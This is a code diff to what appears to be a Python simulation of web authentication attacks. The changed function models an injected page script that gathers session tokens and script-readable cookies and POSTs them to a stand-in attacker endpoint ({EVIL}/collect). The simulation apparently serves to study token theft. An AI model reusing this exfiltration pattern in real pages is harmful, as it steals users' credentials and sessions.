@@ -306,21 +306,24 @@ def _read_storage(world: World, name: str, browser: str | None, take: bool) -> O
     if browser is None:
         return _take(world, client.sessions.values(), f"the storage of {name}")
     session = client.stored(world.browsers[browser])
-    out = _take(world, [session] if session else [], f"the storage of {name} in {browser}")
     if client.in_page:
-        _report(world, client, world.browsers[browser], session)
+        out = _report(client, world.browsers[browser], session)
+    else:
+        out = _take(world, [session] if session else [], f"the storage of {name} in {browser}")
     if take and session is not None:
         session.tokens.clear()
         session.refresh_token = session.id_token = ""
     return out
 
 
-def _report(world: World, client: Hosted, browser: Browser, session: Session | None) -> None:
+def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
     """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
     jar = browser.cookies.get(split(client.home).netloc, {})
     cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
-    found = {k: v for k, v in _held_by(session).items() if v}
-    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": found, "cookies": cookies}), f"{client.home}/")
+    held = _held_by(session)
+    storage = {k: v for k, v in held.items() if v}
+    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
+    return held
 
 
 def _read_device(world: World, device: str) -> Outputs:
